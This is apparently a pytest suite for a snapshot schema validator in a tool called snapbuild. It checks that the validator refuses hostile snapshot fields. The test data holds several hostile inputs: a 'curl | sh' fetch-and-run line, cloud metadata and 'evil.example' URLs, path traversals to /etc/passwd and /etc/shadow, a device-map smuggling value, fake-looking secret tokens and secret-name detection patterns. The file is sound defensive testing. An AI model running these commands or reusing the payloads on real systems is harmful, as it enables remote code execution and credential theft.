"""snapbuild.schema: what crosses from build to node, read back field by field.

The documents here have the shape steps/checkpoint.py writes (its integration test,
test_criu_snapshots, round-trips a really built one); each bad case names the field
that is wrong, and a newer format says to upgrade snapbuild.
"""

from __future__ import annotations

import copy
import json
import re

import pytest

from snapbuild.errors import IntegrityError
from snapbuild.schema import (CONFIG_FORMAT, RUNTIME_FORMAT, Runtime, SchemaError, ServerSpec, SnapshotConfig,
                              TreeImages, read_config)

D = {c: "sha256:" + c * 64 for c in "abcdef"}
ROOT = "/var/lib/snapbuild"


def host_runtime() -> dict:
    spec = ServerSpec(name="counter", argv=["python", "$SNAPBUILD_INPUTS/app/server.py"],
                      ready={"http": "http://127.0.0.1:8080/healthz", "timeout": 30}, run_root=ROOT,
                      run_dir=f"{ROOT}/run/counter-0123456789abcdef", env={"MODE": "warm"},
                      inputs={"app": D["a"], "model": D["b"]}, mounts={"/models/m": "model"})
    return Runtime(engine="host", process="server", server=spec, pids=[4242, 4243],
                   fingerprint={"arch": "x86_64"}, stats={"pages_bytes": 1 << 20}, step="snap",
                   artifact=D["c"]).to_json()


def container_runtime() -> dict:
    doc = host_runtime()
    doc["engine"] = "runc"
    doc["pids"] = []
    doc["server"].update(mounts={}, image=D["d"], image_step="base", engine_options={},
                         image_config={"Env": ["PATH=/usr/bin"]})
    return doc


def config(runtime: dict | None) -> dict:
    outputs = {"snap": D["c"], "app": D["a"], "model": D["b"], "base": D["d"]}
    return SnapshotConfig(name="counter", outputs=outputs, variant={}, steps=[], created_by="snapbuild test",
                          runtime=Runtime.from_json(runtime) if runtime else None,
                          tree_images=TreeImages(trees={D["a"]: D["e"]})).to_json() | {
        "outputs": {**outputs, "img": D["e"]}}


@pytest.mark.parametrize("make", [host_runtime, container_runtime])
def test_a_runtime_section_round_trips_through_json(make):
    doc = json.loads(json.dumps(make()))
    rt = Runtime.from_json(doc, node_root=None)
    assert rt.to_json() == doc
    assert rt.in_container == (doc["engine"] == "runc")
    assert "tree_images" not in rt.to_json()["server"], "the runner's own field is never stored"


def test_a_snapshot_config_round_trips_and_names_its_types():
    doc = config(host_runtime())
    snap = SnapshotConfig.from_json(doc, node_root=None)
    assert snap.format == CONFIG_FORMAT and snap.runtime is not None and snap.runtime.format == 1
    assert snap.runtime.server.inputs["model"] == D["b"] and snap.tree_images.images() == [D["e"]]
    assert snap.to_json() == doc


def broken(path: str, value) -> dict:
    """A host runtime section with the field at ``path`` (dots) set to ``value``."""
    doc = host_runtime()
    *parents, last = path.split(".")
    d = doc
    for p in parents:
        d = d[p]
    d[last] = value
    return doc


@pytest.mark.parametrize("path,value,message", [
    ("engine", "docker", r"runtime\.engine: 'docker' is not one of host, runc, runsc"),
    ("pids", [1], r"runtime\.pids: are not process ids"),
    ("pids", ["1"], r"runtime\.pids: is not a list of int"),
    ("step", "../x", r"runtime\.step: is not a plain step name"),
    ("artifact", "md5:x", r"runtime\.artifact: 'md5:x' does not match"),
    ("server.name", "Bad Name", r"runtime\.server\.name: 'Bad Name' does not match"),
    ("server.argv", [], r"runtime\.server\.argv: is not a non-empty list of strings"),
    ("server.env", {"A": 1}, r"runtime\.server\.env: does not map strings to strings"),
    ("server.run_dir", "/etc", r"runtime\.server\.run_dir: '/etc' is not /var/lib/snapbuild/run/counter-<key>"),
    ("server.mounts", {"/etc": "model"}, r"runtime\.server\.mounts\['/etc'\]: .*system path"),
    ("server.mounts", {"/models/x": "nope"}, r"runtime\.server\.mounts\['/models/x'\]: names 'nope'"),
    ("server.inputs", {"../app": D["a"]}, r"runtime\.server\.inputs\['\.\./app'\]: must map a plain step name"),
    ("server.ready", {"file": "/etc/passwd"}, r"runtime\.server\.ready\.file: ready file '/etc/passwd' must be"),
    ("server.ready", "soon", r"runtime\.server\.ready: is not an object"),
])
def test_a_bad_field_is_named(path, value, message):
    with pytest.raises(SchemaError, match=message):
        Runtime.from_json(broken(path, value))


def test_schema_errors_are_integrity_errors():
    """A bad snapshot from a registry is exit 5, like a corrupt blob."""
    assert issubclass(SchemaError, IntegrityError) and SchemaError("x").exit_code == 5


def test_a_container_field_on_a_container_engine_is_checked():
    doc = container_runtime()
    doc["server"]["engine_options"] = {"privileged": True}
    with pytest.raises(SchemaError, match=r"engine_options: privileged are not options of a container engine"):
        Runtime.from_json(doc)
    doc = container_runtime()
    doc["server"]["ready"] = {"file": "/tmp/ready"}
    with pytest.raises(SchemaError, match="a container's ready probe cannot be a file on the node"):
        Runtime.from_json(doc)


@pytest.mark.parametrize("what,make", [
    ("checkpoint", lambda: {**host_runtime(), "format": RUNTIME_FORMAT + 1}),
    ("snapshot", lambda: {**config(None), "format": CONFIG_FORMAT + 1}),
])
def test_a_newer_format_says_to_upgrade(what, make):
    reader = Runtime.from_json if what == "checkpoint" else SnapshotConfig.from_json
    with pytest.raises(SchemaError) as info:
        reader(make())
    assert f"{what} format {(RUNTIME_FORMAT if what == 'checkpoint' else CONFIG_FORMAT) + 1} is newer" \
        in info.value.message
    assert "upgrade snapbuild" in info.value.hint


def test_a_format_below_one_does_not_exist():
    with pytest.raises(SchemaError, match=r"runtime\.format: checkpoint format 0 does not exist"):
        Runtime.from_json({**host_runtime(), "format": 0})


def test_the_node_checks_the_run_root(monkeypatch):
    monkeypatch.setenv("SNAPBUILD_RUN_ROOT", "/srv/snapbuild")
    with pytest.raises(SchemaError) as info:
        read_config(config(host_runtime()), "counter:v1")
    assert "snapshot counter:v1: config.runtime.server.run_root: '/var/lib/snapbuild' is not this node's run " \
           "root '/srv/snapbuild'" in info.value.message
    assert "SNAPBUILD_RUN_ROOT=/var/lib/snapbuild" in info.value.hint
    monkeypatch.setenv("SNAPBUILD_RUN_ROOT", ROOT)
    assert read_config(config(host_runtime()), "counter:v1").runtime.server.run_root == ROOT


def test_the_runtime_must_name_trees_the_snapshot_ships():
    doc = config(host_runtime())
    del doc["outputs"]["model"]
    with pytest.raises(SchemaError, match=rf"config\.runtime: needs tree {D['b']}, which is not one of the outputs"):
        SnapshotConfig.from_json(doc)


def test_tree_images_must_be_erofs_and_map_digests():
    with pytest.raises(SchemaError, match=r"tree_images\.format: 'squashfs' is not erofs"):
        TreeImages.from_json({"format": "squashfs"})
    with pytest.raises(SchemaError, match=r"tree_images\.trees\['x'\]: must map a digest to a digest"):
        TreeImages.from_json({"format": "erofs", "trees": {"x": D["a"]}})


def test_not_an_object_is_said_so():
    with pytest.raises(SchemaError, match="runtime is not an object"):
        Runtime.from_json([1, 2])
    doc = copy.deepcopy(host_runtime())
    doc["server"] = "x"
    with pytest.raises(SchemaError, match=r"runtime\.server is not an object"):
        Runtime.from_json(doc)


@pytest.mark.parametrize("files,fmt,message", [
    ([{"name": "../etc/passwd", "mode": 0o600, "size": 1}], 2, r"shm_files\[0\]\.name: '\.\./etc/passwd'"),
    ([{"name": "a/b", "mode": 0o600, "size": 1}], 2, r"shm_files\[0\]\.name: 'a/b' has a '/'"),
    ([{"name": "a", "mode": 0o600, "size": 1}] * 2, 2, r"shm_files\[1\]\.name: 'a' is used twice"),
    ([{"name": "a", "mode": 0o4755, "size": 1}], 2, r"shm_files\[0\]\.mode: is out of range"),
    ([{"name": "a", "mode": 0o600, "size": 1}], 1, r"runtime\.shm_files: are for host-process checkpoints of format 2"),
])
def test_shm_files_are_plain_names_of_format_two(files, fmt, message):
    """They are written to /dev/shm/NAME as root: nothing else may be named."""
    with pytest.raises(SchemaError, match=message):
        Runtime.from_json({**host_runtime(), "format": fmt, "shm_files": files})


def test_shm_files_round_trip_and_are_left_out_when_there_are_none():
    files = [{"name": "psm_1", "mode": 0o600, "size": 4096}, {"name": "link_remap.3", "mode": 0o600, "size": 32}]
    doc = {**host_runtime(), "format": 2, "shm_files": files}
    assert Runtime.from_json(doc).to_json() == doc
    assert "shm_files" not in host_runtime()


def test_socket_dirs_are_scratch_folders_of_format_two():
    doc = {**host_runtime(), "format": 2, "socket_dirs": ["/tmp/zmq-1", f"{ROOT}/run/counter-0123456789abcdef/ipc"]}
    assert Runtime.from_json(doc).to_json() == doc
    with pytest.raises(SchemaError, match=r"runtime\.socket_dirs\[0\]: '/etc/cron.d' is not below /tmp"):
        Runtime.from_json({**doc, "socket_dirs": ["/etc/cron.d"]})
    with pytest.raises(SchemaError, match=r"runtime\.socket_dirs: are for host-process checkpoints of format 2"):
        Runtime.from_json({**doc, "format": 1})


ANSWER = {"status": 200, "bytes": 11, "sha256": "0" * 64, "head": '{"y": 42.0}'}


def test_check_requests_round_trip_with_their_answers():
    checks = [{"http": "POST /infer", "body": '{"x": 1}', "headers": {}, "answer": ANSWER},
              {"http": "POST /v1/completions", "headers": {}, "compare": ["choices.0.text"], "answer": ANSWER}]
    doc = {**host_runtime(), "format": 2, "verify": checks}
    assert Runtime.from_json(doc).to_json() == doc
    assert "verify" not in host_runtime(), "format 1 has none"


@pytest.mark.parametrize("check,message", [
    ({"http": "GET http://169.254.169.254/latest/meta-data/", "answer": ANSWER},
     r"verify\[0\]\.http: is not a request to the server"),
    ({"run": "curl -s example.org | sh", "answer": ANSWER}, r"verify\[0\]\.http: is not a request to the server"),
    ({"http": "GET /x", "repeat": 3, "answer": ANSWER}, r"verify\[0\]\.http: is not a request to the server"),
    ({"http": "GET /x"}, r"verify\[0\]\.answer: is not an object"),
    ({"http": "GET /x", "answer": {**ANSWER, "sha256": "abc"}}, r"verify\[0\]\.answer\.sha256: 'abc' does not match"),
    ({"http": "GET /x", "answer": {**ANSWER, "head": "x" * 1000}}, r"verify\[0\]\.answer\.head: is longer"),
    ({"http": "GET /x", "answer": ANSWER, "shell": "id"}, r"verify\[0\]\.shell: is not a field"),
    ({"http": "GET /x", "answer": ANSWER, "compare": "id"}, r"verify\[0\]\.compare: is not a list of 1 to 32"),
    ({"http": "GET /x", "answer": ANSWER, "compare": []}, r"verify\[0\]\.compare: is not a list of 1 to 32"),
])
def test_a_check_request_goes_to_the_server_and_carries_an_answer(check, message):
    """A runner replays these on every restore: from a hostile snapshot, they must not
    reach another host or carry anything but a request and its expected answer."""
    with pytest.raises(SchemaError, match=message):
        Runtime.from_json({**host_runtime(), "format": 2, "verify": [check]})
    with pytest.raises(SchemaError, match=r"runtime\.verify: is for checkpoints of format 2"):
        Runtime.from_json({**host_runtime(), "verify": [{"http": "GET /x", "answer": ANSWER}]})


@pytest.mark.parametrize("item,message", [
    ({"url": "/x"}, r"after_restore\[0\]\.url: is not a field of an exercise"),
    ({}, r"after_restore\[0\]: an exercise needs exactly one of http, run"),
    ({"http": "POST /wake_up", "run": "true"}, r"after_restore\[0\]: an exercise needs exactly one of http, run"),
    ({"http": "POST /wake_up", "repeat": 0}, r"after_restore\[0\]\.repeat: is not a positive count"),
    ({"http": "POST /wake_up", "headers": {"X": 1}}, r"after_restore\[0\]\.headers: does not map strings"),
])
def test_after_restore_items_are_checked_as_exercises(item, message):
    """Once read unchecked, a malformed item reached the runner as a KeyError."""
    with pytest.raises(SchemaError, match=message):
        Runtime.from_json({**host_runtime(), "after_restore": [item]})
    good = {**host_runtime(), "after_restore": [{"http": "POST /wake_up", "headers": {}, "repeat": 1}]}
    assert Runtime.from_json(good).to_json() == good


UUID0, UUID1 = "GPU-1d5f4c2e-aaaa-bbbb-cccc-000000000010", "GPU-1d5f4c2e-aaaa-bbbb-cccc-000000000011"


def gpu_section(**over) -> dict:
    return {"method": "tool", "pids": [7], "timeout_s": 600, "sandbox": False, "pid_ns": True, "uuids": [UUID0],
            "device_nodes": ["/dev/nvidia0", "/dev/nvidiactl"], "timings": {},
            "fingerprint": {"model": "NVIDIA H200", "count": 2, "driver": "580.65.06", "uuids": [UUID0, UUID1]},
            **over}


@pytest.mark.parametrize("over, message", [
    ({"pids": []}, "gpu.pids: must list"),
    ({"pids": [7, 7]}, "gpu.pids: must list"),
    ({"pid_ns": False}, "gpu.pid_ns: is true exactly for a runc container"),
    ({"sandbox": True}, "gpu.sandbox: is true exactly for engine runsc"),
    ({"uuids": [f"{UUID0}={UUID1},{UUID0}"]}, "is not a GPU UUID"),  # would smuggle pairs into --device-map
    ({"uuids": [UUID0, UUID0]}, "gpu.uuids: names a GPU twice"),
    ({"device_nodes": ["/dev/../etc/passwd"]}, "is not a path below /dev"),
    ({"device_nodes": ["/etc/shadow"]}, "is not a path below /dev"),
    ({"device_nodes": [3]}, "gpu.device_nodes: is not a list of str"),
    ({"timeout_s": 10 ** 9}, "gpu.timeout_s: is not a number of seconds"),
    ({"method": "sh"}, "gpu.method: is not tool or driver"),
])
def test_the_gpu_section_a_root_runner_acts_on_is_checked(over, message):
    """What a registry serves in `gpu` becomes cuda-checkpoint PIDs, a device map and
    device nodes made by root: each part is checked against the engine."""
    doc = {**container_runtime(), "gpu": gpu_section(**over)}
    with pytest.raises(SchemaError, match=message):
        Runtime.from_json(doc)


def test_a_good_gpu_section_reads_back_and_host_processes_keep_their_pids():
    doc = {**container_runtime(), "gpu": gpu_section()}
    assert Runtime.from_json(doc).gpu == gpu_section()
    host = {**host_runtime(), "gpu": gpu_section(pid_ns=False, device_nodes=[])}
    assert Runtime.from_json(host).gpu["pids"] == [7]
    with pytest.raises(SchemaError, match="device_nodes: are for runc containers"):
        Runtime.from_json({**host_runtime(), "gpu": gpu_section(pid_ns=False)})


# --- the runtime section stays in its box (issue 31, item 2) ------------------------------

@pytest.mark.parametrize("dest, words", [
    ("/etc/cron.d-x", "below the system folder /etc"),
    ("/usr/local/x", "below the system folder /usr"),
    ("/root/.ssh-x", "below the system folder /root"),
    ("/var/lib/x", "below the system folder /var/lib"),
    ("/var/run/x", "below the system folder /var/run"),
    ("/lib32/x", "below the system folder /lib32"),
    ("/boot/efi-x", "below the system folder /boot"),
    ("/var/models", None),
    ("/srv/models", None),
])
def test_a_mount_below_a_system_folder_is_refused_unless_the_node_allows_a_root(dest, words, monkeypatch):
    from snapbuild.schema import mount_point_problem

    doc = broken("server.mounts", {dest: "model"})
    if words is None:
        assert Runtime.from_json(doc).server.mounts == {dest: "model"}
        return
    with pytest.raises(SchemaError, match=rf"mounts\['{dest}'\]: .*{words}.*SNAPBUILD_ALLOW_MOUNT_ROOTS"):
        Runtime.from_json(doc)
    monkeypatch.setenv("SNAPBUILD_ALLOW_MOUNT_ROOTS", f"/opt:{dest.rsplit('/', 1)[0]}")
    assert Runtime.from_json(doc).server.mounts == {dest: "model"}
    assert "would cover a system path" in mount_point_problem("/usr"), "an allowed root never covers a system path"


def test_a_mount_in_or_over_the_run_root_is_refused_and_a_bad_allowance_named(monkeypatch):
    from snapbuild.errors import UsageError
    from snapbuild.schema import mount_point_problem

    with pytest.raises(SchemaError, match=r"would cover or be inside /var/lib/snapbuild"):
        Runtime.from_json(broken("server.mounts", {f"{ROOT}/trees": "model"}))
    monkeypatch.setenv("SNAPBUILD_RUN_ROOT", "/srv/snapbuild")
    assert "would cover or be inside /srv/snapbuild" in mount_point_problem("/srv")
    monkeypatch.setenv("SNAPBUILD_ALLOW_MOUNT_ROOTS", "usr/local")
    with pytest.raises(UsageError, match=r"SNAPBUILD_ALLOW_MOUNT_ROOTS: 'usr/local' is not an absolute folder"):
        mount_point_problem("/usr/local/x")


@pytest.mark.parametrize("ready, words", [
    ({"http": "http://169.254.169.254/latest/meta-data"}, "asks 169.254.169.254, not this machine"),
    ({"tcp": "10.0.0.1:80"}, "asks 10.0.0.1, not this machine"),
    ({"http": "file:///etc/passwd"}, "is not an http(s) URL"),
    ({"tcp": "127.0.0.1:http"}, "is not HOST:PORT"),
    ({"http": "http://127.0.0.1:8080/x", "tcp": "127.0.0.1:1"}, "needs exactly one of"),
])
def test_a_ready_probe_asks_the_server_on_this_machine_only(ready, words):
    with pytest.raises(SchemaError, match=r"runtime\.server\.ready: .*" + re.escape(words)):
        Runtime.from_json(broken("server.ready", ready))


@pytest.mark.parametrize("http, words", [
    ("GET http://169.254.169.254/latest/meta-data/iam", "is not the restored server"),
    ("POST http://127.0.0.1:9999/x", "is not the restored server"),
    ("POST http://127.0.0.1:8080@evil.example/x", "is not the restored server"),
    (None, None),  # a path
    ("POST http://localhost:8080/wake_up", None),  # the server's own address
])
def test_after_restore_http_items_go_to_the_restored_server_only(http, words):
    item = {"http": http or "POST /wake_up", "headers": {}}
    doc = {**host_runtime(), "after_restore": [item]}
    if words is None:
        assert Runtime.from_json(doc).after_restore == [item]
        return
    with pytest.raises(SchemaError, match=r"after_restore\[0\]\.http: .*" + re.escape(words)):
        Runtime.from_json(doc)


def test_a_call_after_the_restore_needs_a_probe_with_an_address():
    doc = broken("server.ready", {"log": "ready"})
    with pytest.raises(SchemaError, match=r"after_restore\[0\]\.http: 'POST /x' needs the server's address"):
        Runtime.from_json({**doc, "after_restore": [{"http": "POST /x", "headers": {}}]})
    runs = {**doc, "after_restore": [{"run": "true", "headers": {}}]}
    assert Runtime.from_json(runs).after_restore == runs["after_restore"], "a run line needs no address"


def test_an_absolute_url_of_the_server_is_asked_on_the_address_this_machine_reaches_it():
    from snapbuild.runtime.probe import on_base

    assert on_base({"http": "POST http://127.0.0.1:8080/wake?x=1"})["http"] == "POST /wake?x=1"
    assert on_base({"http": "http://127.0.0.1:8080"})["http"] == "/"
    assert on_base({"http": "POST /wake"}) == {"http": "POST /wake"}
    assert on_base({"run": "true"}) == {"run": "true"}


# --- secrets (issue 31, item 5) -----------------------------------------------------------

PEM = "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----"
VALUES = {
    "DATABASE_URL": ("postgres://u:pw-7731@h/db", "a password in a URL"),
    "HUB": ("hf_" + "a1B2" * 9, "a Hugging Face token"),
    "AWS_ID": ("AKIA" + "ABCDEFGH12345678", "an AWS access key id"),
    "GH": ("ghp_" + "x" * 36, "a GitHub token"),
    "GH2": ("github_pat_11AAAAAAA0" + "y" * 30, "a GitHub token"),
    "CHAT": ("xoxb-1234567890-abcdefghij", "a Slack token"),
    "SSH": (PEM, "a private key"),
}


@pytest.mark.parametrize("name", ["HF_TOKEN", "SERVICE_API_TOKEN", "AWS_SECRET_ACCESS_KEY", "AWS_ACCESS_KEY_ID",
                                  "DB_PASSWORD", "PGPASSWORD", "OPENAI_API_KEY", "APIKEY", "apiKey", "hfToken",
                                  "GOOGLE_APPLICATION_CREDENTIALS", "ssh-passphrase"])
def test_secret_names_are_matched_as_words(name):
    from snapbuild.schema import secret_names

    assert secret_names({name: "x"}) == [name]


@pytest.mark.parametrize("name", ["TOKENIZERS_PARALLELISM", "KEYBOARD", "MONKEY_PATCH", "PASSTHROUGH", "PWD",
                                  "SECRETARY_NAME", "OMP_NUM_THREADS"])
def test_names_that_only_contain_a_secret_word_are_not_flagged(name):
    from snapbuild.schema import secret_names

    assert secret_names({name: "1"}) == []


def test_secrets_are_found_by_value_in_env_and_command_and_never_printed():
    from snapbuild.schema import secret_names

    env = {name: value for name, (value, _) in VALUES.items()} | {"PLAIN": "http://127.0.0.1:8000/x"}
    argv = ["serve", "--db", VALUES["DATABASE_URL"][0], "--key", PEM, "--port", "8000"]
    found = secret_names(env, argv)
    assert found == sorted(f"{n} ({kind})" for n, (_, kind) in VALUES.items()) + [
        "command[2] (a password in a URL)", "command[4] (a private key)"]
    shown = "\n".join(found)
    assert all(value not in shown for value, _ in VALUES.values()) and "pw-7731" not in shown


def test_env_from_node_holds_names_only_and_needs_format_4():
    doc = {**host_runtime(), "format": 4}
    doc["server"]["env_from_node"] = ["DATABASE_URL", "HF_TOKEN"]
    rt = Runtime.from_json(doc)
    assert rt.server.env_from_node == ["DATABASE_URL", "HF_TOKEN"] and rt.to_json() == doc
    assert "env_from_node" not in host_runtime()["server"], "older sections stay as they were"
    with pytest.raises(SchemaError, match=r"runtime\.format: 3: a server with env_from_node needs format 4"):
        Runtime.from_json({**doc, "format": 3})
    for bad in (["A=B"], ["MODE"], ["SNAPBUILD_RUN"], ["X", "X"]):  # MODE is in env
        d = copy.deepcopy(doc)
        d["server"]["env_from_node"] = bad
        with pytest.raises(SchemaError, match=r"runtime\.server\.env_from_node: .* is not a variable name"):
            Runtime.from_json(d)
